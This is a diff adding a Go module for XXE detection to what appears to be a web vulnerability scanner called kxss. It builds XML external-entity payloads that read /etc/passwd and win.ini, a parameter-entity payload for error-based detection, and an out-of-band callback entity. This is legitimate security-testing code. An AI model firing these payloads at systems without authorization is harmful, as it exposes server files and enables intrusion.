@@ -0,0 +1,160 @@
+package main
+
+import (
+	"encoding/xml"
+	"fmt"
+	"strings"
+)
+
+// XXE findings in Result.XXE, by how the entity was seen to resolve.
+const (
+	xxeFile  = "file"  // a local file came back in the response
+	xxeError = "error" // a parser error names the file it failed to load
+	xxeOOB   = "oob"   // the parser fetched a -ssrf callback URL
+)
+
+// xxeEntity is the name of the entities kxss declares.
+const xxeEntity = "kxss"
+
+// xxeFiles are read through an external general entity in place of the
+// tested value; traversalSignatures tells whether they came back.
+var xxeFiles = []string{
+	"file:///etc/passwd",
+	"file:///c:/windows/win.ini",
+}
+
+var xxeCheck = injectionCheck{
+	label:  "XXE",
+	found:  func(r Result) bool { return r.XXE != "" },
+	detail: xxeDetail,
+	test:   testXXE,
+}
+
+// xxeDetail is how the entity resolved and, for callbacks, over which
+// protocols.
+func xxeDetail(r Result) string {
+	if len(r.XXEProtocols) > 0 {
+		return r.XXE + ", " + strings.Join(r.XXEProtocols, ", ")
+	}
+	return r.XXE
+}
+
+func init() {
+	knownInjectionChecks = append(knownInjectionChecks, xxeCheck)
+}
+
+// xxeDocument returns c's XML body with a DOCTYPE holding decls before
+// the root element and, when value is not empty, the raw markup value in
+// place of the tested element text. ok is false for bodies that already
+// have a DOCTYPE or that kxss cannot parse.
+func xxeDocument(c paramCheck, decls, value string) (string, bool) {
+	if c.tmpl == nil {
+		return "", false
+	}
+	body := c.tmpl.Body
+	dec := xml.NewDecoder(strings.NewReader(body))
+	root, at := "", -1
+	for root == "" {
+		before := int(dec.InputOffset())
+		tok, err := dec.RawToken()
+		if err != nil {
+			return "", false
+		}
+		switch t := tok.(type) {
+		case xml.Directive:
+			return "", false
+		case xml.StartElement:
+			root, at = xmlQName(t.Name), before
+		}
+	}
+	if value != "" {
+		values, err := xmlValues(body)
+		if err != nil {
+			return "", false
+		}
+		edited := false
+		for _, v := range values {
+			if v.name == c.param && !v.cdata {
+				body = body[:v.start] + value + body[v.end:]
+				edited = true
+				break
+			}
+		}
+		if !edited {
+			return "", false
+		}
+	}
+	doctype := fmt.Sprintf("<!DOCTYPE %s [%s]>", root, decls)
+	return body[:at] + doctype + body[at:], true
+}
+
+// firstXMLParam reports whether c is the first value of its XML body, so
+// that tests of the body as a whole run once per request.
+func firstXMLParam(c paramCheck) bool {
+	params := structuredParams(c.tmpl)
+	return len(params) > 0 && params[0].loc == locXML && params[0].name == c.param
+}
+
+// testXXE replaces the text of c's element with an external entity
+// reading each of xxeFiles and looks for the file in the response. For
+// the first value of the body it also declares a parameter entity for a
+// file that does not exist, and looks for the parser's error naming it.
+func testXXE(c paramCheck, r *Result) error {
+	if c.loc != locXML || strings.Contains(c.param, "/@") {
+		return nil
+	}
+	base, err := sendInjected(c, "")
+	if err != nil {
+		return err
+	}
+	for _, file := range xxeFiles {
+		decl := fmt.Sprintf(`<!ENTITY %s SYSTEM "%s">`, xxeEntity, file)
+		doc, ok := xxeDocument(c, decl, "&"+xxeEntity+";")
+		if !ok {
+			return nil
+		}
+		resp, err := sendTest(c, c.url, doc)
+		if err != nil {
+			return err
+		}
+		for _, sig := range traversalSignatures {
+			m := sig.FindString(resp.body)
+			if m == "" || strings.Contains(base.body, m) {
+				continue
+			}
+			r.XXE = xxeFile
+			r.Payload = doc
+			r.Curl = resp.curl
+			r.Evidence = snippetAround(resp.body, m, evidenceContext)
+			return nil
+		}
+	}
+	if !firstXMLParam(c) {
+		return nil
+	}
+	missing := "/kxss-missing/" + reflectionCanary
+	decl := fmt.Sprintf(`<!ENTITY %% %s SYSTEM "file://%s"> %%%s;`, xxeEntity, missing, xxeEntity)
+	doc, _ := xxeDocument(c, decl, "")
+	resp, err := sendTest(c, c.url, doc)
+	if err != nil {
+		return err
+	}
+	// An application echoing the whole body shows the declaration too
+	if strings.Contains(resp.body, missing) && !strings.Contains(resp.body, "ENTITY") {
+		r.XXE = xxeError
+		r.Payload = doc
+		r.Curl = resp.curl
+		r.Evidence = snippetAround(resp.body, missing, evidenceContext)
+	}
+	return nil
+}
+
+// xxeCallback returns c's XML body declaring a parameter entity that
+// loads callbackURL, for the first value of the body only.
+func xxeCallback(c paramCheck, callbackURL string) (string, bool) {
+	if c.loc != locXML || !firstXMLParam(c) {
+		return "", false
+	}
+	decl := fmt.Sprintf(`<!ENTITY %% %s SYSTEM "%s"> %%%s;`, xxeEntity, callbackURL, xxeEntity)
+	return xxeDocument(c, decl, "")
+}